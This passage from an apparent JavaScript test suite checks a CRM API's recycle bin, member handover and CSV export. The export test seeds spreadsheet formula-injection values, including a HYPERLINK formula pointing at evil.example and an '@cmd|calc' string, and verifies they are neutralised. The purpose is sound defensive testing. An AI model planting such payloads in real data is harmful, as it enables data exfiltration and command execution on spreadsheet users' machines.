  const everything = await walk(t, '/api/v1/recycle_bin', 200);
  const all = everything.filter((x) => created.has(keyOf(x)));
  assert.equal(all.length, order.length, 'each deleted record is listed once');
  for (const x of all) {
    assertKeys(x, ['object', 'id', 'title', 'deleted_at', 'deleted_by'], 'bin item');
    assertTime(x.deleted_at, 'deleted_at');
    assert.equal(x.deleted_by, members[0].id);
  }
  assert.deepEqual(all.map(keyOf), [...order].reverse().map(([o, r]) => `${o}:${r.id}`), 'most recently deleted first');
  assert.equal(all.find((x) => x.object === 'activities').title, '回收活动');
  const times = everything.map((x) => Date.parse(x.deleted_at));
  assert.deepEqual(times, [...times].sort((x, y) => y - x));
  for (const limit of [1, 2, 3]) {
    const paged = await walk(t, '/api/v1/recycle_bin', limit);
    assert.deepEqual(paged.map(keyOf), everything.map(keyOf), `limit ${limit}: the same items, once each`);
  }
  const custs = await walk(t, '/api/v1/recycle_bin?object=customers', 1);
  assert.ok(custs.every((x) => x.object === 'customers'));
  assert.deepEqual(custs.filter((x) => created.has(keyOf(x))).map((x) => x.id), [c1.id, c2.id]);
  assert.deepEqual((await walk(t, '/api/v1/recycle_bin?object=leads', 5)).map(keyOf), everything.filter((x) => x.object === 'leads').map(keyOf));

  const restored = expectStatus(await call(t, 'POST', `/api/v1/leads/${lead.id}/restore`), 200);
  assert.equal(restored.deleted_at, null);
  assert.ok(!(await walk(t, '/api/v1/recycle_bin', 200)).some((x) => x.object === 'leads' && x.id === lead.id));
  await getRec(t, 'leads', lead.id);
  expectStatus(await call(t, 'POST', `/api/v1/tasks/${task.id}/restore`), 200);
  assertError(await call(t, 'POST', `/api/v1/tasks/${task.id}/restore`), 404, 'not_found');
  assert.equal((await walk(t, '/api/v1/recycle_bin', 200)).filter((x) => created.has(keyOf(x))).length, order.length - 2);

  assertError(await call(t, 'GET', '/api/v1/recycle_bin?object=pipelines'), 400, 'bad_request', { object: 'invalid_option' });
  assertError(await call(t, 'GET', '/api/v1/recycle_bin?cursor=garbage'), 400, 'bad_request', { cursor: 'invalid_value' });
  assertError(await api('GET', '/api/v1/recycle_bin'), 401, 'unauthorized');
});

test('recycle bin: only objects the role may delete and records in its scope; another tenant\'s bin is separate', async () => {
  const t = a.access_token;
  const ownerCust = await customer(t);
  await del(t, 'customers', ownerCust.id);
  const salesTask = await createRecord(aSales.access_token, 'tasks', { subject: `销售的任务 ${unique()}` });
  await del(aSales.access_token, 'tasks', salesTask.id);
  const ownerTask = await createRecord(t, 'tasks', { subject: `老板的任务 ${unique()}` });
  await del(t, 'tasks', ownerTask.id);
  const salesCust = await customer(aSales.access_token);
  await del(t, 'customers', salesCust.id);

  const salesBin = await walk(aSales.access_token, '/api/v1/recycle_bin', 200);
  assert.ok(salesBin.some((x) => x.object === 'tasks' && x.id === salesTask.id), 'sales sees its own deleted task');
  assert.ok(!salesBin.some((x) => x.object === 'tasks' && x.id === ownerTask.id), 'not the owner\'s');
  assert.ok(!salesBin.some((x) => x.object === 'customers'), 'sales may not delete customers: none listed');
  assertError(await call(aSales.access_token, 'POST', `/api/v1/customers/${salesCust.id}/restore`), 403, 'forbidden');
  assert.deepEqual(await walk(aReader.access_token, '/api/v1/recycle_bin', 200), [], 'read-only deletes nothing, sees nothing');
  const ownerBin = await walk(t, '/api/v1/recycle_bin', 200);
  assert.ok(ownerBin.some((x) => x.object === 'customers' && x.id === ownerCust.id));
  assert.ok(ownerBin.some((x) => x.object === 'tasks' && x.id === salesTask.id), 'the owner sees every deleted record');
  const bBin = await walk(b.access_token, '/api/v1/recycle_bin', 200);
  assert.ok(!bBin.some((x) => x.title === ownerCust.name), 'B does not see A\'s bin');
  assertError(await call(b.access_token, 'POST', `/api/v1/customers/${ownerCust.id}/restore`), 404, 'not_found');
});

/* ---------------------------------------------------------------- handover */

test('handover moves every record of a member (live and binned) to another, with counts; audited; the old owner sees none', async () => {
  const t = c.access_token;
  const m1 = await addMember(t, { role: 'sales', name: '离职销售' });
  const m2 = await addMember(t, { role: 'sales', name: '接手销售' });
  const id1 = m1.member.id;
  const id2 = m2.member.id;
  const c1 = await createRecord(t, 'customers', { name: '交接客户一', owner_id: id1 });
  await createRecord(t, 'customers', { name: '交接客户二', owner_id: id1 });
  const binned = await createRecord(t, 'customers', { name: '交接已删客户', owner_id: id1 });
  await del(t, 'customers', binned.id);
  await createRecord(t, 'customers', { name: '别人的客户' });
  await createRecord(t, 'contacts', { name: '交接联系人', owner_id: id1 });
  await createRecord(t, 'leads', { name: '交接线索', owner_id: id1 });
  await createRecord(t, 'opportunities', { name: '交接商机', customer_id: c1.id, owner_id: id1 });
  await createRecord(t, 'activities', { kind: 'call', subject: '交接活动', owner_id: id1 });
  await createRecord(t, 'tasks', { subject: '交接任务', assignee_id: id1 });
  await createRecord(t, 'tasks', { subject: '接手人自己的任务', assignee_id: id2 });

  const res = await call(t, 'POST', `/api/v1/members/${id1}/handover`, { body: { to_member_id: id2 } });
  const json = expectStatus(res, 200);
  assert.deepEqual(json.moved, { customers: 3, contacts: 1, leads: 1, opportunities: 1, activities: 1, tasks: 1 });
  for (const o of ['customers', 'contacts', 'leads', 'opportunities', 'activities', 'tasks']) {
    assert.deepEqual(await list(m1.access_token, o), [], `${o}: the old owner has none left`);
  }
  assert.equal((await list(m2.access_token, 'customers')).length, 2);
  assert.equal((await list(m2.access_token, 'tasks')).length, 2);
  const after = await getRec(t, 'customers', c1.id);
  assert.equal(after.owner_id, id2);
  assert.equal(after.version, c1.version + 1);
  const h = await history(t, 'customers', c1.id);
  assert.ok(h.some((e) => e.action === 'handover' && e.field === 'owner_id' && e.old === id1 && e.new === id2), JSON.stringify(h[0]));
  const restored = expectStatus(await call(t, 'POST', `/api/v1/customers/${binned.id}/restore`), 200);
  assert.equal(restored.owner_id, id2, 'the binned record moved too');
  // nothing left to move
  const again = expectStatus(await call(t, 'POST', `/api/v1/members/${id1}/handover`, { body: { to_member_id: id2 } }), 200);
  assert.deepEqual(again.moved, { customers: 0, contacts: 0, leads: 0, opportunities: 0, activities: 0, tasks: 0 });
});

test('handover: to a disabled member, to oneself or to nobody 422; an unknown member 404; without members.manage 403; nothing moves', async () => {
  const t = a.access_token;
  const from = await addMember(t, { role: 'sales' });
  const off = await addMember(t, { role: 'sales' });
  expectStatus(await patchMember(t, off.member.id, { status: 'disabled' }), 200);
  const cust = await createRecord(t, 'customers', { name: `不交接 ${unique()}`, owner_id: from.member.id });
  const h = (id, body, token = t) => call(token, 'POST', `/api/v1/members/${id}/handover`, { body });
  assertError(await h(from.member.id, { to_member_id: off.member.id }), 422, 'validation_failed', { to_member_id: 'invalid_member' });
  assertError(await h(from.member.id, { to_member_id: from.member.id }), 422, 'validation_failed', { to_member_id: 'invalid_member' });
  assertError(await h(from.member.id, { to_member_id: 99999999 }), 422, 'validation_failed', { to_member_id: 'invalid_member' });
  assertError(await h(from.member.id, {}), 422, 'validation_failed', { to_member_id: 'required' });
  assertError(await h(from.member.id, { to_member_id: String(aOwner.id) }), 422, 'validation_failed', { to_member_id: 'required' });
  assertError(await h(99999999, { to_member_id: aOwner.id }), 404, 'not_found');
  assertError(await h(from.member.id, { to_member_id: aOwner.id }, aSales.access_token), 403, 'forbidden');
  assertError(await h(from.member.id, { to_member_id: aOwner.id }, b.access_token), 404, 'not_found');
  assert.equal((await getRec(t, 'customers', cust.id)).owner_id, from.member.id, 'nothing moved');
});

testBadBodies('POST /members/{id}/handover', { path: '/api/v1/members/1/handover', token: () => a.access_token, body: { to_member_id: 1 } });

/* ---------------------------------------------------------------- export */

test('CSV export: text/csv with a BOM, header labels, exactly the rows of the filter, formulas neutralised, no other tenant\'s rows', async () => {
  const t = a.access_token;
  const n = unique();
  const region = `导出区 ${n}`;
  const plain = await customer(t, { name: `导出客户 ${n}`, region, level: 'A', phone: '010-6666 8888', tags: ['甲', '乙'] });
  const formula = await customer(t, { name: `=HYPERLINK("http://evil.example/?x",${n})`, region, level: 'A' });
  const plus = await customer(t, { name: `+SUM(1,2) ${n}`, region, level: 'A', address: '@cmd|calc' });
  const minus = await customer(t, { name: `-2+3 ${n}`, region, level: 'A' });
  await customer(t, { name: `B级客户 ${n}`, region, level: 'B' });
  await customer(b.access_token, { name: `乙的客户 ${n}`, region, level: 'A' });

  const res = await getRaw(t, `/api/v1/customers/export?filter[region]=${encodeURIComponent(region)}&filter[level]=A&sort=name`);
  assert.equal(res.status, 200, res.text.slice(0, 300));
  assert.match(res.headers.get('content-type') || '', /^text\/csv/);
  assert.match(res.headers.get('content-disposition') || '', /attachment/);
  assert.deepEqual([...res.buf.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM');
  const rows = parseCsv(res.text.slice(1)).filter((r) => r.length > 1 || r[0] !== '');
  const [header, ...data] = rows;
  for (const label of ['ID', '客户名称', '客户级别', '地区', '电话']) assert.ok(header.includes(label), `header has ${label}: ${header}`);
  assert.ok(!header.includes('name'), 'labels, not keys');
  const col = (label) => header.indexOf(label);
  assert.equal(data.length, 4, 'the four level-A customers of the region, and nothing of tenant B');
  assert.deepEqual(data.map((r) => Number(r[col('ID')])).sort(), [plain.id, formula.id, plus.id, minus.id].sort());
  for (const r of data) assert.equal(r.length, header.length, 'every row has every column');
  const byId = Object.fromEntries(data.map((r) => [Number(r[col('ID')]), r]));
  assert.equal(byId[plain.id][col('客户名称')], plain.name);
  assert.equal(byId[plain.id][col('电话')], '010-6666 8888');
  assert.equal(byId[formula.id][col('客户名称')], `'${formula.name}`, 'a leading = is neutralised');
  assert.equal(byId[plus.id][col('客户名称')], `'${plus.name}`, 'a leading + is neutralised');
  assert.equal(byId[minus.id][col('客户名称')], `'${minus.name}`, 'a leading - is neutralised');
  assert.equal(byId[plus.id][col('地址')], "'@cmd|calc", 'a leading @ is neutralised');
  const tagCol = header.findIndex((h) => h === 'tags' || h === '标签');
  assert.ok(tagCol >= 0, 'a tags column');
  assert.deepEqual(byId[plain.id][tagCol].split(/;\s*/).sort(), ['乙', '甲'].sort());
  assert.ok(!res.text.includes('乙的客户'), 'no row of tenant B');
});

test('CSV export: custom fields are columns under their labels (lists joined by "; ", booleans, money)', async () => {
  const t = (await signup()).access_token;
  await Promise.all([
    call(t, 'POST', '/api/v1/fields/leads', { body: { key: 'hobbies', label: '爱好', type: 'multiselect', options: ['围棋', '篮球', '书法'] } }),
    call(t, 'POST', '/api/v1/fields/leads', { body: { key: 'vip', label: '贵宾', type: 'bool' } }),
    call(t, 'POST', '/api/v1/fields/leads', { body: { key: 'budget', label: '预算', type: 'money' } }),
  ]);
  const lead = await createRecord(t, 'leads', { name: '导出线索', custom: { hobbies: ['围棋', '书法'], vip: true, budget: '99.9' } });
  await createRecord(t, 'leads', { name: '空线索' });
  const res = await getRaw(t, '/api/v1/leads/export?sort=name');
  assert.equal(res.status, 200, res.text.slice(0, 200));
  assert.match(res.headers.get('content-disposition') || '', /filename="leads\.csv"/);
  const [header, ...rows] = parseCsv(res.text.slice(1)).filter((r) => r.length > 1);
  for (const label of ['爱好', '贵宾', '预算']) assert.ok(header.includes(label), `${label} in ${header}`);
  assert.ok(header.indexOf('姓名') < header.indexOf('爱好'), 'core fields before custom ones');
  assert.equal(rows.length, 2);
  const row = rows.find((r) => Number(r[header.indexOf('ID')]) === lead.id);
  assert.deepEqual(row[header.indexOf('爱好')].split('; ').sort(), ['书法', '围棋'].sort());
  assert.equal(row[header.indexOf('贵宾')], 'true');
  assert.equal(row[header.indexOf('预算')], '99.90');
  const empty = rows.find((r) => Number(r[header.indexOf('ID')]) !== lead.id);
  assert.equal(empty[header.indexOf('爱好')], '');
});

test('CSV export: members and linked customers by name (an e-mail for a name two members share), a customer out of the caller\'s scope by id; the file imports back as it was', async () => {
  const t = (await signup()).access_token;
  const n = unique();
  const fang1 = await addMember(t, { role: 'sales', name: '王芳' });
  const fang2 = await addMember(t, { role: 'sales', name: '王芳' });
  expectStatus(await call(t, 'POST', '/api/v1/roles', { body: { key: 'exp_own', name: '导出员', record_scope: 'own', permissions: ['contacts.read', 'contacts.export'] } }), 201);
  const lei = await addMember(t, { role: 'exp_own', name: '赵磊' });
  const leis = await customer(t, { name: `赵磊的客户 ${n}`, owner_id: lei.member.id });
  const fangs = await customer(t, { name: `王芳的客户 ${n}`, owner_id: fang1.member.id });
  const c1 = await createRecord(t, 'contacts', { name: `联系人甲 ${n}`, customer_id: leis.id, owner_id: lei.member.id });
  const c2 = await createRecord(t, 'contacts', { name: `联系人乙 ${n}`, customer_id: fangs.id, owner_id: lei.member.id });
  const c3 = await createRecord(t, 'contacts', { name: `联系人丙 ${n}`, customer_id: fangs.id, owner_id: fang2.member.id });

  const read = async (token) => {
    const res = await getRaw(token, '/api/v1/contacts/export?sort=name');
    assert.equal(res.status, 200, res.text.slice(0, 300));
    const [header, ...rows] = parseCsv(res.text.slice(1)).filter((r) => r.length > 1);
    const byId = Object.fromEntries(rows.map((r) => [Number(r[header.indexOf('ID')]), Object.fromEntries(header.map((h, i) => [h, r[i]]))]));
    return { text: res.text, header, byId };
  };
  const all = await read(t);
  for (const label of ['客户', '负责人', '标签', '创建时间', '更新时间']) assert.ok(all.header.includes(label), `${label} in ${all.header}`);
  assert.deepEqual([all.byId[c1.id]['客户'], all.byId[c1.id]['负责人']], [leis.name, '赵磊']);
  assert.deepEqual([all.byId[c2.id]['客户'], all.byId[c2.id]['负责人']], [fangs.name, '赵磊']);
  assert.deepEqual([all.byId[c3.id]['客户'], all.byId[c3.id]['负责人']], [fangs.name, fang2.member.email], 'a shared name is written as the e-mail');

  const own = await read(lei.access_token);
  assert.deepEqual(Object.keys(own.byId).map(Number).sort(), [c1.id, c2.id].sort(), 'scope own: their contacts');
  assert.equal(own.byId[c1.id]['客户'], leis.name);
  assert.equal(own.byId[c2.id]['客户'], String(fangs.id), 'a customer the caller may not see keeps its id');
  assert.ok(!own.text.includes(fangs.name), 'nor its name anywhere');

  // The owner's file, imported again: each copy has the customer and owner of its original.
  const rep = expectStatus(await call(t, 'POST', '/api/v1/imports?object=contacts', { raw: all.text, headers: { 'content-type': 'text/csv' } }), 201);
  assert.deepEqual([rep.created, rep.failed], [3, 0], JSON.stringify(rep.errors));
  const copies = (await list(t, 'contacts', `q=${encodeURIComponent(n)}`)).filter((x) => ![c1.id, c2.id, c3.id].includes(x.id));
  const was = (x) => [x.name, x.customer_id, x.owner_id];
  assert.deepEqual(copies.map(was).sort(), [c1, c2, c3].map(was).sort());

  // A name two members share is refused by an import, an unknown one too.
  const csv = `姓名,客户,负责人\n重名 ${n},${leis.name},王芳\n无名 ${n},${leis.name},没有这个人\n`;
  const bad = expectStatus(await call(t, 'POST', '/api/v1/imports?object=contacts', { raw: csv, headers: { 'content-type': 'text/csv' } }), 201);
  assert.deepEqual(bad.errors.map((e) => [e.row, e.fields]), [[1, { owner_id: 'ambiguous' }], [2, { owner_id: 'not_found' }]]);
});

test('CSV export: fields hidden from the role are absent; out-of-scope records absent; without the export right 403; a bad filter 400', async () => {
  const t = a.access_token;
  const n = unique();
  const k = `exp-${unique()}`.slice(0, 32);
  expectStatus(await call(t, 'POST', '/api/v1/roles', {
    body: { key: k, name: '导出员', record_scope: 'own', permissions: ['customers.read', 'customers.export'], fields: { 'customers.phone': 'hidden', 'customers.email': 'hidden' } },
  }), 201);
  const m = await addMember(t, { role: k });
  const mine = await customer(t, { name: `导出隐藏 ${n}`, phone: '021-5555 7777', email: `hidden-${n}@example.com`, owner_id: m.member.id });
  await customer(t, { name: `不在范围 ${n}` });
  const res = await getRaw(m.access_token, '/api/v1/customers/export');
  assert.equal(res.status, 200, res.text.slice(0, 300));
  const [header, ...data] = parseCsv(res.text.slice(1)).filter((r) => r.length > 1);
  assert.ok(!header.includes('电话') && !header.includes('邮箱'), `hidden columns absent: ${header}`);
  assert.ok(!res.text.includes('5555') && !res.text.includes(`hidden-${n}`), 'hidden values absent');
  assert.deepEqual(data.map((r) => Number(r[header.indexOf('ID')])), [mine.id], 'only records in scope');
  assertError(await call(aSales.access_token, 'GET', '/api/v1/customers/export'), 403, 'forbidden');
  assertError(await call(t, 'GET', '/api/v1/customers/export?filter[nothing]=1'), 400, 'bad_request', { 'filter[nothing]': 'unknown_field' });
  assertError(await call(m.access_token, 'GET', '/api/v1/customers/export?filter[phone]=021'), 400, 'bad_request', { 'filter[phone]': 'unknown_field' });
  assertError(await api('GET', '/api/v1/customers/export'), 401, 'unauthorized');
});
